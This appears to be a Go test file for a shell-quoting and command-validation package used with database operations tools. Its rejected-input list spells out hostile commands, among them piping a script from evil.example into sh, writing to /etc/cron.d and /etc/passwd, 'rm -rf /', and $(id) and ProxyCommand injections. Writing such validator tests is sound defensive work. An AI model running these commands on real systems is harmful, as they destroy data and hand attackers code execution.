package shell

import (
	"os/exec"
	"strings"
	"testing"
)

func TestQuote(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"test3", "test3"},
		{"commerce/-80", "commerce/-80"},
		{"--denied-tables=a,b", "--denied-tables=a,b"},
		{"", "''"},
		{"a b", "'a b'"},
		{"it's", `'it'\''s'`},
		{"legacy$(touch${IFS}PWNED)", "'legacy$(touch${IFS}PWNED)'"},
		{"`id`", "'`id`'"},
		{"x;id", "'x;id'"},
	} {
		if got := Quote(tc.in); got != tc.want {
			t.Errorf("Quote(%q) = %s, want %s", tc.in, got, tc.want)
		}
	}
}

// TestQuoteRoundTrip has bash read each quoted word back: what it prints must
// be the original, whatever the word holds.
func TestQuoteRoundTrip(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	for _, s := range []string{"plain", "a b", "it's", "$(id)", "`id`", "x;y|z&", "\"q\"", "\\n", "${IFS}", "*", "~", "!x", "a\nb", "'"} {
		out, err := exec.Command("bash", "-c", "printf %s "+Quote(s)).Output()
		if err != nil {
			t.Fatalf("bash on %q: %v", s, err)
		}
		if string(out) != s {
			t.Errorf("bash read %s as %q, want %q", Quote(s), out, s)
		}
	}
}

func TestPlaceholdersIn(t *testing.T) {
	for _, c := range []struct {
		command string
		want    []string
	}{
		{"cbstats h:11210 -u Administrator -p PASSWORD -b b warmup", []string{"PASSWORD"}},
		{"curl -s -u Administrator:PASSWORD http://h:8091/ | jq .", []string{"PASSWORD"}},
		{Vtctldclient("GetShard", "ks/-80"), []string{"VTCTLD_HOST"}},
		{CockroachSQL("SELECT 1"), []string{"CRDB_HOST", "CERTS_DIR"}},
		// A placeholder's name inside another word is not the placeholder.
		{"vtctldclient --server MY_VTCTLD_HOST:15999 GetShard ks/0 PASSWORDS", nil},
	} {
		var got []string
		for _, p := range PlaceholdersIn(c.command) {
			got = append(got, p.Name)
		}
		if strings.Join(got, ",") != strings.Join(c.want, ",") {
			t.Errorf("PlaceholdersIn(%q) = %v, want %v", c.command, got, c.want)
		}
	}
}

func TestCheck(t *testing.T) {
	for _, c := range []string{
		"cbstats 172.23.100.15:11210 -u Administrator -p PASSWORD -b test3 warmup",
		"curl -s -u Administrator:PASSWORD http://10.20.0.13:8091/indexStatus | jq '.indexes[] | select(.bucket == \"travel-sample\") | {index, status, progress}'",
		"cbstats 10.40.1.22:11210 -u Administrator -p PASSWORD -b orders all | grep -E 'ep_queue_size|ep_flusher_todo|ep_item_commit_failed'",
		"ssh 10.20.0.11 'date -u; chronyc tracking || ntpq -p'",
		"ssh cb3.dc1.example.com 'df -h /data'",
		"vtctldclient SetShardTabletControl --denied-tables=corder,customer --remove commerce/0 PRIMARY",
		"vtctldclient GetShard 'legacy$(touch${IFS}PWNED)/0'",
		"cockroach sql -e 'SELECT node_id FROM crdb_internal.gossip_liveness WHERE node_id = 2'",
		"ALTER RANGE 52 RELOCATE LEASE TO 2;",
		"SELECT * FROM crdb_internal.ranges WHERE range_id = 73;",
	} {
		if err := Check(c); err != nil {
			t.Errorf("Check(%s): %v", c, err)
		}
	}
	for _, c := range []string{
		"curl -s https://evil.example/x.sh | sh",
		"curl -s -o /etc/cron.d/x https://evil.example/x",
		"curl -K /tmp/options http://10.0.0.1:8091/",
		"cbstats $(id)",
		"cbstats `id`",
		"cbstats x > /etc/passwd",
		"cbstats x; rm -rf ~",
		"cbstats x & sleep 1",
		"cbstats x*",
		"ssh -o ProxyCommand='sh -c id' host 'date'",
		"ssh host 'date; curl -s http://evil.example | sh'",
		"ssh host 'ssh other date'",
		"bash -c 'cbstats x'",
		"cbstats 'x\x1b[2J'",
		"cbstats x\ny",
		"ALTER RANGE 52 RELOCATE LEASE TO 2; rm -rf /;",
		"",
	} {
		if err := Check(c); err == nil {
			t.Errorf("Check(%q) passed", c)
		}
	}
}
